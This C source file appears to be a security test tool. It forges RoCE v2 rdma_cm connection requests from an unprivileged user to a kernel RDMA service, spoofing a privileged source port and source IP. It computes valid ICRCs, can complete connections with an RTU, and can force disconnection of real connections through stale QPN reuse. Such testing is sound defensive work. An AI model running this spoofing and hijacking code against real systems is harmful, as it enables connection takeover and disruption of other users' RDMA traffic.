// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * rv_roce_forge - an unprivileged user's forged rdma_cm connection request
 * to rv, sent as a plain UDP datagram: on RoCE v2 a CM REQ is a UD SEND to
 * QP 1 carried in UDP to port 4791, which any process can build and send.
 * No libibverbs, no librdmacm, no capability.
 *
 *   rv_roce_forge --target IP --src-ip IP --uid N --key STR
 *                 [--src-port N] [--path-gid IP] [--cm-port N]
 *                 [--qp-index I[,I...]] [--num-conn N] [--version V[,V...]]
 *                 [--qpn Q[,Q...]] [--qpn-step N] [--stale-qpn Q[,Q...]]
 *                 [--ca-guid HEX]
 *                 [--count N] [--interval-ms N] [--wait-ms N] [--rtu]
 *                 [--expect-rep] [--udp-port N] [--quiet]
 *
 * Each round (--count rounds, --interval-ms apart) sends, for each QP
 * index of --qp-index, one REQ to TARGET:4791 for rv's listener (service
 * ID of RDMA_PS_TCP and --cm-port, default 1023) whose rdma_cm header
 * claims to come from --src-ip:--src-port (default 700: a privileged port,
 * which only the kernel of that host could have bound) and whose private
 * data is rv's request (--version 1: the 32-byte layout; 2: 56 bytes with
 * the "authenticated" flag, a timestamp, a random nonce and a random tag,
 * as the forger cannot compute the real one; a list such as 1,2: round r
 * uses the (r mod n)-th, so a test need not know the server's version).
 * The REQ's primary path names --path-gid (default --src-ip) as the
 * requester's GID: ib_cm sends
 * its answers (REP, and rv's REJ) there, so with the forger's own address
 * they come back to it.  The local QPN of index position k is the k-th
 * --qpn (default 0xf00000 + k: far above what rxe allocates), plus
 * --qpn-step (default 0) times the round: ib_cm takes a REQ with the QPN
 * and CA GUID of a connection it has for a stale connection's, so a round
 * repeating a QPN that was accepted before would disconnect that (our)
 * connection again.  With --stale-qpn, each REQ is preceded by one
 * with the k-th of those QPNs instead (a connection's real QPN with its CA
 * GUID: ib_cm then takes the REQ for one from a stale connection and
 * disconnects the real one).  --ca-guid is the REQ's local CA GUID
 * (default 0x02f0f0f0f0f0f0f0).
 *
 * Answers are read from UDP port 4791 of this host (--udp-port), which is
 * free only while no rxe device holds it (rdma_rxe unloaded): exit status
 * 3 with "cannot bind UDP port 4791" otherwise.  Printed, one line each:
 *   REP index I qpn Q        rv's accept: I from its private data (-1 if
 *                            not rv's), Q the server's QPN; with --rtu it
 *                            is answered with an RTU, so the server's QP
 *                            goes to RTS with our QPN as its peer
 *   REJ reason R rv_reason V ib_cm's reason (28: consumer defined, then V
 *                            is rv's RV_CM_REJ_*; 10: stale connection)
 *   MRA, DREQ                as received
 *   no answer ...            for requests nothing came back for
 * (--quiet: no REJ lines, only the count of each kind at the end, as
 * "rejects reason R rv_reason V: N").
 * RC packets arriving for one of our QPNs (a taken-over QP's traffic) are
 * counted.  The last line is
 *   sent N rep N rej N mra N dreq N noanswer N rc N
 * (each answer counted once per request; REP and REJ retransmissions are
 * not counted again).
 *
 * Exit status: with --expect-rep 0 if some REP came, else 0 if none came;
 * 1 otherwise; 2 usage; 3 socket errors (4791 taken, no route).
 *
 * The packet: BTH (UD SEND_ONLY, P_Key 0xffff, dest QP 1), DETH (GSI Q_Key
 * 0x80010000, source QP 1), the 256-byte CM MAD and the ICRC, computed as
 * rxe checks it over the IP and UDP headers the kernel will build:
 * IP_PMTUDISC_DO sets DF, so an unconnected socket's datagrams carry IP
 * ID 0 (ip_select_ident_segs()); TOS, TTL and both checksums are masked.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "rv_test_util.h"

#define ROCE_UDP_PORT	4791
#define BTH_LEN		12
#define DETH_LEN	8
#define MAD_LEN		256
#define ICRC_LEN	4
#define PKT_LEN		(BTH_LEN + DETH_LEN + MAD_LEN + ICRC_LEN)
#define IP_HDR_LEN	20
#define UDP_HDR_LEN	8

#define OP_UD_SEND_ONLY	0x64
#define GSI_QKEY	0x80010000u

/* MAD header (24 bytes), then the CM message. */
#define MAD_HDR_LEN	24
#define MGMT_CLASS_CM	0x07
#define CM_CLASS_VER	2
#define METHOD_SEND	0x03
#define ATTR_REQ	0x0010
#define ATTR_MRA	0x0011
#define ATTR_REJ	0x0012
#define ATTR_REP	0x0013
#define ATTR_RTU	0x0014
#define ATTR_DREQ	0x0015

#define REQ_PDATA_OFF	140	/* in the CM message */
#define REQ_PDATA_LEN	92
#define REJ_PDATA_OFF	84
#define REP_PDATA_OFF	36
#define REJ_CONSUMER	28

#define RDMA_PS_TCP	0x0106

#define RV_MAGIC	0x5256434du
#define MAX_IDX		64
#define MAX_REQS	100000

struct opts {
	struct in_addr target, src_ip, path_gid;
	bool have_path_gid;
	unsigned int src_port, cm_port, uid, num_conn;
	uint32_t version[MAX_IDX];
	unsigned int n_version;
	const char *key;
	unsigned int idx[MAX_IDX], n_idx;
	uint32_t qpn[MAX_IDX], stale_qpn[MAX_IDX];
	unsigned int n_qpn, n_stale, qpn_step;
	uint64_t ca_guid;
	unsigned int count, interval_ms, wait_ms, udp_port;
	bool rtu, expect_rep, quiet;
};

/* One REQ sent, and what came back for it. */
struct req {
	uint32_t comm_id;
	uint64_t tid;
	uint32_t qpn;
	unsigned int index, version;
	bool stale;		/* a --stale-qpn request */
	bool answered, rep, rej, mra, dreq;
	uint32_t remote_comm_id;	/* from the REP */
};

static struct req *reqs;
static unsigned int n_reqs;
static int tx_fd, rx_fd;
static struct sockaddr_in tx_addr;	/* our bound source */
static struct sockaddr_in dst_addr;
static uint32_t psn;
static unsigned long cnt_rc;

/* ---- bytes and bits ---------------------------------------------------- */

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static void put64(uint8_t *p, uint64_t v)
{
	put32(p, v >> 32);
	put32(p + 4, v);
}

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

/*
 * A field of the IBTA's Byte[Bit] tables: @width bits starting at bit
 * @bit (0 = most significant) of byte @byte, big endian, possibly over
 * several bytes.
 */
static void set_field(uint8_t *msg, unsigned int byte, unsigned int bit,
		      unsigned int width, uint64_t value)
{
	unsigned int pos = byte * 8 + bit, i;

	for (i = 0; i < width; i++, pos++) {
		unsigned int b = (value >> (width - 1 - i)) & 1;
		uint8_t mask = 0x80 >> (pos % 8);

		if (b)
			msg[pos / 8] |= mask;
		else
			msg[pos / 8] &= ~mask;
	}
}

static uint64_t get_field(const uint8_t *msg, unsigned int byte,
			  unsigned int bit, unsigned int width)
{
	unsigned int pos = byte * 8 + bit, i;
	uint64_t v = 0;

	for (i = 0; i < width; i++, pos++)
		v = v << 1 | ((msg[pos / 8] >> (7 - pos % 8)) & 1);
	return v;
}

/* ---- ICRC ----------------------------------------------------------------- */

/* CRC-32 (reflected, polynomial 0xedb88320), the kernel's crc32_le(). */
static uint32_t crc_table[256];

static void crc_init(void)
{
	uint32_t c;
	int i, k;

	for (i = 0; i < 256; i++) {
		c = i;
		for (k = 0; k < 8; k++)
			c = c & 1 ? (c >> 1) ^ 0xedb88320u : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t crc_update(uint32_t crc, const uint8_t *p, size_t n)
{
	while (n--)
		crc = crc_table[(crc ^ *p++) & 0xff] ^ (crc >> 8);
	return crc;
}

/*
 * The ICRC of @pkt (BTH onwards, @len bytes before the ICRC) as rxe
 * computes it: 8 bytes of 0xff for the masked LRH, the IPv4 header with
 * TOS, TTL and checksum all ones, the UDP header with checksum all ones,
 * the BTH with its reserved byte before the QPN all ones, then the rest.
 * Stored little endian, as rxe does on x86.
 */
static void put_icrc(uint8_t *pkt, size_t len, struct in_addr saddr,
		     uint16_t sport, struct in_addr daddr)
{
	uint8_t ps[8 + IP_HDR_LEN + UDP_HDR_LEN + BTH_LEN];
	uint8_t *ip = ps + 8, *udp = ip + IP_HDR_LEN, *bth = udp + UDP_HDR_LEN;
	uint16_t udp_len = UDP_HDR_LEN + len + ICRC_LEN;
	uint32_t crc;

	memset(ps, 0xff, 8);
	ip[0] = 0x45;			/* version 4, 5 words */
	ip[1] = 0xff;			/* TOS, masked */
	put16(ip + 2, IP_HDR_LEN + udp_len);
	put16(ip + 4, 0);		/* ID: 0 with DF, unconnected */
	put16(ip + 6, 0x4000);		/* DF */
	ip[8] = 0xff;			/* TTL, masked */
	ip[9] = IPPROTO_UDP;
	put16(ip + 10, 0xffff);		/* checksum, masked */
	memcpy(ip + 12, &saddr, 4);
	memcpy(ip + 16, &daddr, 4);
	put16(udp, sport);
	put16(udp + 2, ROCE_UDP_PORT);
	put16(udp + 4, udp_len);
	put16(udp + 6, 0xffff);		/* checksum, masked */
	memcpy(bth, pkt, BTH_LEN);
	bth[4] = 0xff;			/* resv8a */

	crc = crc_update(0xffffffffu, ps, sizeof(ps));
	crc = crc_update(crc, pkt + BTH_LEN, len - BTH_LEN);
	crc = ~crc;
	pkt[len] = crc;
	pkt[len + 1] = crc >> 8;
	pkt[len + 2] = crc >> 16;
	pkt[len + 3] = crc >> 24;
}

/* ---- packets ------------------------------------------------------------- */

static void v4_mapped_gid(uint8_t *gid, struct in_addr a)
{
	memset(gid, 0, 10);
	gid[10] = 0xff;
	gid[11] = 0xff;
	memcpy(gid + 12, &a, 4);
}

/* BTH + DETH for a GSI datagram, the MAD header; returns the CM message. */
static uint8_t *gsi_mad(uint8_t *pkt, uint16_t attr, uint64_t tid)
{
	uint8_t *bth = pkt, *deth = pkt + BTH_LEN, *mad = deth + DETH_LEN;

	memset(pkt, 0, PKT_LEN);
	bth[0] = OP_UD_SEND_ONLY;
	bth[1] = 0;			/* SE 0, M 0, pad 0, TVer 0 */
	put16(bth + 2, 0xffff);		/* P_Key */
	put32(bth + 4, 1);		/* dest QP 1 */
	put32(bth + 8, psn++ & 0xffffff);
	put32(deth, GSI_QKEY);
	put32(deth + 4, 1);		/* source QP 1 */
	mad[0] = 1;			/* base version */
	mad[1] = MGMT_CLASS_CM;
	mad[2] = CM_CLASS_VER;
	mad[3] = METHOD_SEND;
	put64(mad + 8, tid);
	put16(mad + 16, attr);
	return mad + MAD_HDR_LEN;
}

static int send_pkt(uint8_t *pkt)
{
	ssize_t n;

	put_icrc(pkt, PKT_LEN - ICRC_LEN, tx_addr.sin_addr,
		 ntohs(tx_addr.sin_port), dst_addr.sin_addr);
	n = sendto(tx_fd, pkt, PKT_LEN, 0, (struct sockaddr *)&dst_addr,
		   sizeof(dst_addr));
	if (n != PKT_LEN) {
		fprintf(stderr, "sendto: %s\n", n < 0 ? strerror(errno) : "short");
		return -1;
	}
	return 0;
}

static uint64_t rand64(void)
{
	uint64_t v;

	if (getrandom(&v, sizeof(v), 0) != sizeof(v))
		v = (uint64_t)random() << 32 ^ random();
	return v;
}

/* rv's request private data in @version's layout, at @p. */
static void rv_pdata(uint8_t *p, const struct opts *o, unsigned int version,
		     unsigned int index)
{
	size_t klen = strlen(o->key);
	struct timespec ts;
	uint64_t r;

	put32(p, RV_MAGIC);
	put16(p + 4, version);
	put16(p + 6, index);
	put16(p + 8, o->num_conn);
	p[10] = klen;
	p[11] = version >= 2 ? 1 : 0;	/* v2: "authenticated" */
	put32(p + 12, o->uid);
	memcpy(p + 16, o->key, klen);
	if (version < 2)
		return;
	clock_gettime(CLOCK_REALTIME, &ts);
	put64(p + 32, (uint64_t)ts.tv_sec * 1000000000ull + ts.tv_nsec);
	r = rand64();
	memcpy(p + 40, &r, 8);		/* nonce */
	r = rand64();
	memcpy(p + 48, &r, 8);		/* tag: unknown to us, so random */
}

/* One REQ as ib_cm and rdma_cm format it for RoCE v2. */
static int send_req(const struct opts *o, unsigned int version,
		    unsigned int index, uint32_t qpn, bool stale)
{
	uint8_t pkt[PKT_LEN], *m, *pd;
	struct in_addr path = o->have_path_gid ? o->path_gid : o->src_ip;
	struct req *r;

	if (n_reqs >= MAX_REQS)
		return -1;
	r = &reqs[n_reqs];
	memset(r, 0, sizeof(*r));
	do
		r->comm_id = (uint32_t)rand64();
	while (!r->comm_id);
	r->tid = rand64() & 0xffffffffffffull;
	r->qpn = qpn & 0xffffff;
	r->index = index;
	r->stale = stale;
	r->version = version;

	m = gsi_mad(pkt, ATTR_REQ, r->tid);
	put32(m + 0, r->comm_id);			/* local comm ID */
	put64(m + 8, (uint64_t)RDMA_PS_TCP << 16 | o->cm_port); /* service */
	put64(m + 16, o->ca_guid);			/* local CA GUID */
	set_field(m, 32, 0, 24, r->qpn);		/* local QPN */
	m[35] = 0;					/* responder resources */
	m[39] = 0;					/* initiator depth */
	set_field(m, 43, 0, 5, 20);	/* remote CM response timeout */
	set_field(m, 43, 5, 2, 0);	/* transport service: RC */
	set_field(m, 43, 7, 1, 0);	/* end-to-end flow control */
	set_field(m, 44, 0, 24, (uint32_t)rand64() & 0xffffff); /* PSN */
	set_field(m, 47, 0, 5, 20);	/* local CM response timeout */
	set_field(m, 47, 5, 3, 7);	/* retry count */
	put16(m + 48, 0xffff);		/* P_Key */
	set_field(m, 50, 0, 4, 3);	/* path MTU 1024 */
	set_field(m, 50, 4, 1, 0);	/* RDC exists */
	set_field(m, 50, 5, 3, 7);	/* RNR retry count */
	set_field(m, 51, 0, 4, 15);	/* max CM retries */
	set_field(m, 51, 4, 1, 0);	/* SRQ */
	/* Primary path: permissive LIDs (hop limit > 1), GIDs, no alt. */
	put16(m + 52, 0xffff);
	put16(m + 54, 0xffff);
	v4_mapped_gid(m + 56, path);		/* requester (ours: answers) */
	v4_mapped_gid(m + 72, o->target);	/* responder */
	set_field(m, 88, 0, 20, 0);	/* flow label */
	set_field(m, 91, 2, 6, 0);	/* packet rate: port current */
	m[92] = 0;			/* traffic class */
	m[93] = 64;			/* hop limit */
	set_field(m, 94, 0, 4, 0);	/* SL */
	set_field(m, 94, 4, 1, 0);	/* subnet local: routed (RoCE v2) */
	set_field(m, 95, 0, 5, 17);	/* local ACK timeout */

	/* rdma_cm's header (struct cma_hdr), then rv's private data. */
	pd = m + REQ_PDATA_OFF;
	pd[0] = 0;			/* cma_version */
	pd[1] = 0x40;			/* IPv4 */
	put16(pd + 2, o->src_port);
	memcpy(pd + 4 + 12, &o->src_ip, 4);
	memcpy(pd + 20 + 12, &o->target, 4);
	rv_pdata(pd + 36, o, version, index);

	if (send_pkt(pkt))
		return -1;
	n_reqs++;
	return 0;
}

static void send_rtu(const struct req *r)
{
	uint8_t pkt[PKT_LEN], *m;

	m = gsi_mad(pkt, ATTR_RTU, r->tid);
	put32(m, r->comm_id);
	put32(m + 4, r->remote_comm_id);
	send_pkt(pkt);
}

/* ---- answers ------------------------------------------------------------- */

static struct req *find_req(uint32_t comm_id)
{
	unsigned int i;

	for (i = 0; i < n_reqs; i++)
		if (reqs[i].comm_id == comm_id)
			return &reqs[i];
	return NULL;
}

static bool our_qpn(uint32_t qpn)
{
	unsigned int i;

	for (i = 0; i < n_reqs; i++)
		if (reqs[i].qpn == qpn)
			return true;
	return false;
}

/* REJs by (ib_cm reason, rv reason), for the summary. */
static struct {
	unsigned int reason, rv, n;
} rej_kinds[16];
static unsigned int n_rej_kinds;

static void count_rej(unsigned int reason, unsigned int rv)
{
	unsigned int i;

	for (i = 0; i < n_rej_kinds; i++)
		if (rej_kinds[i].reason == reason && rej_kinds[i].rv == rv)
			break;
	if (i == n_rej_kinds) {
		if (i == sizeof(rej_kinds) / sizeof(rej_kinds[0]))
			return;
		rej_kinds[i].reason = reason;
		rej_kinds[i].rv = rv;
		n_rej_kinds++;
	}
	rej_kinds[i].n++;
}

static void handle_mad(const struct opts *o, const uint8_t *mad)
{
	const uint8_t *m = mad + MAD_HDR_LEN;
	uint16_t attr = get16(mad + 16);
	uint32_t remote = get32(m + 4);		/* our comm ID, in answers */
	struct req *r;

	if (mad[1] != MGMT_CLASS_CM)
		return;
	r = find_req(remote);
	if (!r) {
		if (!o->quiet)
			printf("# CM attribute 0x%04x for comm ID 0x%08x: not ours\n",
			       attr, remote);
		return;
	}
	r->answered = true;
	switch (attr) {
	case ATTR_REP: {
		const uint8_t *pd = m + REP_PDATA_OFF;
		int index = get32(pd) == RV_MAGIC ? get16(pd + 6) : -1;

		if (!r->rep) {
			printf("REP index %d qpn %u\n", index,
			       (unsigned int)get_field(m, 12, 0, 24));
			printf("# REP for our request of version %u, our qpn %u%s\n",
			       r->version, r->qpn,
			       r->stale ? " (a stale connection's)" : "");
		}
		r->rep = true;
		r->remote_comm_id = get32(m);
		/* A retransmitted REP means our RTU was lost: again. */
		if (o->rtu)
			send_rtu(r);
		break;
	}
	case ATTR_REJ: {
		const uint8_t *pd = m + REJ_PDATA_OFF;
		unsigned int reason = get16(m + 10), rv = 0;

		if (reason == REJ_CONSUMER && get32(pd) == RV_MAGIC)
			rv = get16(pd + 6);
		if (!r->rej) {
			if (!o->quiet)
				printf("REJ reason %u rv_reason %u\n", reason,
				       rv);
			count_rej(reason, rv);
		}
		r->rej = true;
		break;
	}
	case ATTR_MRA:
		if (!r->mra)
			printf("MRA\n");
		r->mra = true;
		break;
	case ATTR_DREQ:
		if (!r->dreq)
			printf("DREQ\n");
		r->dreq = true;
		break;
	default:
		printf("# CM attribute 0x%04x\n", attr);
	}
}

static void receive(const struct opts *o)
{
	uint8_t buf[4096];
	ssize_t n;

	while ((n = recv(rx_fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		if (n < BTH_LEN)
			continue;
		if (buf[0] == OP_UD_SEND_ONLY &&
		    n >= BTH_LEN + DETH_LEN + MAD_LEN) {
			handle_mad(o, buf + BTH_LEN + DETH_LEN);
		} else if ((buf[0] & 0xe0) == 0 &&
			   our_qpn(get32(buf + 4) & 0xffffff)) {
			/* RC traffic for a QP we claimed: a taken-over QP. */
			if (!cnt_rc++)
				printf("RC packets for our qpn %u (opcode 0x%02x)\n",
				       get32(buf + 4) & 0xffffff, buf[0]);
		}
	}
}

/* Receive until @deadline (CLOCK_MONOTONIC ms). */
static void receive_until(const struct opts *o, uint64_t deadline)
{
	struct pollfd pfd = { .fd = rx_fd, .events = POLLIN };
	uint64_t t;

	while ((t = rv_now_ms()) < deadline) {
		if (poll(&pfd, 1, deadline - t) > 0)
			receive(o);
	}
	receive(o);
}

/* ---- setup ---------------------------------------------------------------- */

static int sockets(const struct opts *o)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	socklen_t len = sizeof(a);
	int fd, v = IP_PMTUDISC_DO;

	/* Where answers arrive: rxe's port, free only without rxe. */
	rx_fd = socket(AF_INET, SOCK_DGRAM, 0);
	a.sin_port = htons(o->udp_port);
	if (rx_fd < 0 || bind(rx_fd, (struct sockaddr *)&a, sizeof(a))) {
		fprintf(stderr, "cannot bind UDP port %u: %s (an rxe device still holds it? rmmod rdma_rxe)\n",
			o->udp_port, strerror(errno));
		return -1;
	}

	/* The source address the kernel picks for the target. */
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&dst_addr,
			      sizeof(dst_addr)) ||
	    getsockname(fd, (struct sockaddr *)&a, &len)) {
		fprintf(stderr, "no route to %s: %s\n",
			inet_ntoa(dst_addr.sin_addr), strerror(errno));
		return -1;
	}
	close(fd);

	/*
	 * Unconnected, bound to that address: the IP header is then known
	 * (ID 0 under DF), the ICRC can cover it.
	 */
	tx_fd = socket(AF_INET, SOCK_DGRAM, 0);
	a.sin_port = 0;
	len = sizeof(tx_addr);
	if (tx_fd < 0 ||
	    setsockopt(tx_fd, IPPROTO_IP, IP_MTU_DISCOVER, &v, sizeof(v)) ||
	    bind(tx_fd, (struct sockaddr *)&a, sizeof(a)) ||
	    getsockname(tx_fd, (struct sockaddr *)&tx_addr, &len)) {
		fprintf(stderr, "send socket: %s\n", strerror(errno));
		return -1;
	}
	if (!o->quiet) {
		char src[INET_ADDRSTRLEN], dst[INET_ADDRSTRLEN];

		inet_ntop(AF_INET, &tx_addr.sin_addr, src, sizeof(src));
		inet_ntop(AF_INET, &dst_addr.sin_addr, dst, sizeof(dst));
		printf("# sending from %s:%u to %s:%u\n", src,
		       ntohs(tx_addr.sin_port), dst, ROCE_UDP_PORT);
	}
	return 0;
}

/* "A,B,C" into @out (at most MAX_IDX); the number of values, -1 if bad. */
static int parse_list(const char *s, uint32_t *out, unsigned long max)
{
	char *end;
	int n = 0;

	do {
		unsigned long v = strtoul(s, &end, 0);

		if (end == s || v > max || n >= MAX_IDX)
			return -1;
		out[n++] = v;
		s = end + 1;
	} while (*end == ',');
	return *end ? -1 : n;
}

static void usage(void)
{
	fprintf(stderr, "usage: see the comment at the top of %s\n", __FILE__);
	exit(2);
}

static unsigned long num(const char *s, unsigned long max)
{
	char *end;
	unsigned long v = strtoul(s, &end, 0);

	if (end == s || *end || v > max)
		usage();
	return v;
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "target", 1, NULL, 't' },	{ "src-ip", 1, NULL, 's' },
		{ "src-port", 1, NULL, 'p' },	{ "path-gid", 1, NULL, 'g' },
		{ "cm-port", 1, NULL, 'P' },	{ "uid", 1, NULL, 'u' },
		{ "key", 1, NULL, 'k' },	{ "qp-index", 1, NULL, 'i' },
		{ "num-conn", 1, NULL, 'n' },	{ "version", 1, NULL, 'v' },
		{ "qpn", 1, NULL, 'q' },	{ "stale-qpn", 1, NULL, 'Q' },
		{ "ca-guid", 1, NULL, 'G' },	{ "count", 1, NULL, 'c' },
		{ "interval-ms", 1, NULL, 'I' }, { "wait-ms", 1, NULL, 'w' },
		{ "rtu", 0, NULL, 'r' },	{ "expect-rep", 0, NULL, 'x' },
		{ "udp-port", 1, NULL, 'U' },	{ "quiet", 0, NULL, 'z' },
		{ "qpn-step", 1, NULL, 'S' },
		{ NULL, 0, NULL, 0 }
	};
	struct opts o = {
		.src_port = 700, .cm_port = 1023, .num_conn = 4,
		.version = { 1 }, .n_version = 1,
		.n_idx = 1, .ca_guid = 0x02f0f0f0f0f0f0f0ull, .count = 1,
		.interval_ms = 40, .wait_ms = 3000, .udp_port = ROCE_UDP_PORT,
	};
	bool have_target = false, have_src = false, have_uid = false;
	unsigned int i, k, noanswer = 0, rep = 0, rej = 0, mra = 0, dreq = 0;
	uint32_t tmp[MAX_IDX];
	uint64_t next;
	int c, n;

	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 't':
			have_target = inet_pton(AF_INET, optarg, &o.target) == 1;
			break;
		case 's':
			have_src = inet_pton(AF_INET, optarg, &o.src_ip) == 1;
			break;
		case 'g':
			o.have_path_gid =
				inet_pton(AF_INET, optarg, &o.path_gid) == 1;
			if (!o.have_path_gid)
				usage();
			break;
		case 'p': o.src_port = num(optarg, 65535); break;
		case 'P': o.cm_port = num(optarg, 65535); break;
		case 'u': o.uid = num(optarg, 0xffffffffu); have_uid = true; break;
		case 'k': o.key = optarg; break;
		case 'i':
			n = parse_list(optarg, tmp, 0xffff);
			if (n < 0)
				usage();
			for (k = 0; k < (unsigned int)n; k++)
				o.idx[k] = tmp[k];
			o.n_idx = n;
			break;
		case 'n': o.num_conn = num(optarg, 0xffff); break;
		case 'v':
			n = parse_list(optarg, o.version, 2);
			if (n < 0)
				usage();
			for (k = 0; k < (unsigned int)n; k++)
				if (!o.version[k])
					usage();
			o.n_version = n;
			break;
		case 'q':
			n = parse_list(optarg, o.qpn, 0xffffff);
			if (n < 0)
				usage();
			o.n_qpn = n;
			break;
		case 'Q':
			n = parse_list(optarg, o.stale_qpn, 0xffffff);
			if (n < 0)
				usage();
			o.n_stale = n;
			break;
		case 'G': o.ca_guid = strtoull(optarg, NULL, 16); break;
		case 'c': o.count = num(optarg, 1000000); break;
		case 'I': o.interval_ms = num(optarg, 3600000); break;
		case 'w': o.wait_ms = num(optarg, 3600000); break;
		case 'r': o.rtu = true; break;
		case 'x': o.expect_rep = true; break;
		case 'U': o.udp_port = num(optarg, 65535); break;
		case 'z': o.quiet = true; break;
		case 'S': o.qpn_step = num(optarg, 0xffffff); break;
		default: usage();
		}
	}
	if (!have_target || !have_src || !have_uid || !o.key ||
	    !*o.key || strlen(o.key) > 16 || !o.count ||
	    (o.n_qpn && o.n_qpn != o.n_idx) ||
	    (o.n_stale && o.n_stale != o.n_idx) ||
	    (uint64_t)o.count * o.n_idx * (o.n_stale ? 2 : 1) > MAX_REQS)
		usage();
	for (k = 0; k < o.n_idx; k++)
		if (!o.n_qpn)
			o.qpn[k] = 0xf00000 + k;

	reqs = calloc(MAX_REQS, sizeof(*reqs));
	if (!reqs)
		return 3;
	crc_init();
	psn = (uint32_t)rand64();
	dst_addr.sin_family = AF_INET;
	dst_addr.sin_port = htons(ROCE_UDP_PORT);
	dst_addr.sin_addr = o.target;
	if (sockets(&o))
		return 3;

	next = rv_now_ms();
	for (i = 0; i < o.count; i++) {
		unsigned int v = o.version[i % o.n_version];

		for (k = 0; k < o.n_idx; k++) {
			if (o.n_stale && send_req(&o, v, o.idx[k],
						  o.stale_qpn[k], true))
				return 3;
			if (send_req(&o, v, o.idx[k],
				     o.qpn[k] + i * o.qpn_step, false))
				return 3;
		}
		next += o.interval_ms;
		if (i + 1 < o.count)
			receive_until(&o, next);
	}
	receive_until(&o, rv_now_ms() + o.wait_ms);

	for (i = 0; i < n_reqs; i++) {
		const struct req *r = &reqs[i];

		rep += r->rep;
		rej += r->rej;
		mra += r->mra;
		dreq += r->dreq;
		if (r->answered)
			continue;
		noanswer++;
		if (n_reqs <= 32)
			printf("no answer comm 0x%08x version %u index %u qpn %u%s\n",
			       r->comm_id, r->version, r->index, r->qpn,
			       r->stale ? " (stale)" : "");
	}
	if (noanswer && n_reqs > 32)
		printf("no answer for %u requests\n", noanswer);
	for (i = 0; i < n_rej_kinds; i++)
		printf("rejects reason %u rv_reason %u: %u\n",
		       rej_kinds[i].reason, rej_kinds[i].rv, rej_kinds[i].n);
	printf("sent %u rep %u rej %u mra %u dreq %u noanswer %u rc %lu\n",
	       n_reqs, rep, rej, mra, dreq, noanswer, cnt_rc);
	if (o.expect_rep)
		return rep ? 0 : 1;
	return rep ? 1 : 0;
}
